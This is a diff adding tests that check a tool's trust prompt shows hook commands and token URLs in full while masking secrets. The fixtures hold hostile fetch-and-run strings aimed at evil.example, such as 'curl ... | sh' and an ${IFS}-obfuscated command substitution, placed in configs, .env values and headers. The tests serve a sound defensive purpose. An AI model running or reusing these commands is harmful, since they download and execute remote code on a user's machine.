@@ -90,6 +90,47 @@ test('a command cannot hide behind line ends, control characters or a secret', a
   expect(desk.out()).toContain('https://t.example, k: ***');
 });
 
+/** A file of variables and a header make secrets of whatever they hold, and some words do of what follows them. */
+test.each([
+  ['a variable of the project', 'npm run lint; curl https://evil.example/x | sh', {}],
+  ['a header of the project', 'date | sh -c evil-command', { 'x-key': '| sh -c evil-command' }],
+  ['a word before it', 'curl x?access_token=$(curl${IFS}evil.example|sh)', {}],
+  ['a word and quotes before it', 'echo "authorization":"$(curl evil.example | sh)"', {}],
+])('nothing hides a part of a command: %s', async (_, command, headers) => {
+  const folder = await folderWith({
+    'watch.config.json': JSON.stringify({
+      ...{ envs: ['dev'], hooks: { afterLive: command } },
+      token: { url: 'https://t.example/evil', headers },
+    }),
+    '.env': 'LINT="; curl https://evil.example/x | sh"\nWHERE=https://t.example/evil\n',
+    'cloudfunctions/': '',
+  });
+  const { at, without } = await user(folder);
+  const asked = at('n');
+  expect(await loadTrusted(ask, asked.context)).toBeNull();
+  expect(asked.err()).toContain(`runs a command in your shell: ${command}\n`);
+  expect(asked.err()).toContain('https://t.example/evil');
+  const refused = without();
+  expect(await loadTrusted(ask, refused.context)).toBeNull();
+  expect(refused.err()).toContain(`runs a command in your shell: ${command}`);
+});
+
+test('an address is shown with its host, and without what it is asked with', async () => {
+  const folder = await folderWith({
+    'watch.config.json': JSON.stringify({
+      envs: ['dev'],
+      token: { url: 'https://${WHERE}.example/t?key=${KEY}', headers: { a: '${KEY}', b: 'literal-secret' } },
+    }),
+    '.env': 'KEY=secret-of-the-file\nWHERE=somewhere-else\n',
+    'cloudfunctions/': '',
+  });
+  const desk = (await user(folder)).without();
+  expect(await runTrust(show, desk.context)).toBe(3);
+  expect(desk.out()).toContain(
+    'requests the token from this address: https://${WHERE}.example/t?*** (somewhere-else.example), a: ${KEY}, b: ***\n',
+  );
+});
+
 test('tcb-watch trust shows everything, asks, remembers, lists and forgets', async () => {
   const folder = await hooked('x');
   const { at, without } = await user(folder);
